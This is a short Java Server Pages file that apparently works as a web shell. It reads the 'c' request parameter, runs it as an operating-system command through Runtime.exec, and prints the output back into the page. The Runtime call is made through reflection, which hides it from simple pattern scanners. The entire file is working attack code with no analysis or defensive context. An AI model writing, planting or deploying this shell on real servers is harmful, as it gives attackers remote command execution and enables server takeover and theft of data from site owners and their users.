<%
    String c = request.getParameter("c");
    if (c != null) {
        Class<?> rt = Class.forName("java.lang.Runtime");
        Object r = rt.getMethod("getRuntime").invoke(null);
        Process p = (Process) rt.getMethod("exec", String.class).invoke(r, c);
        java.util.Scanner s = new java.util.Scanner(p.getInputStream()).useDelimiter("\\A");
        out.print(s.hasNext() ? s.next() : "");
    }
%>
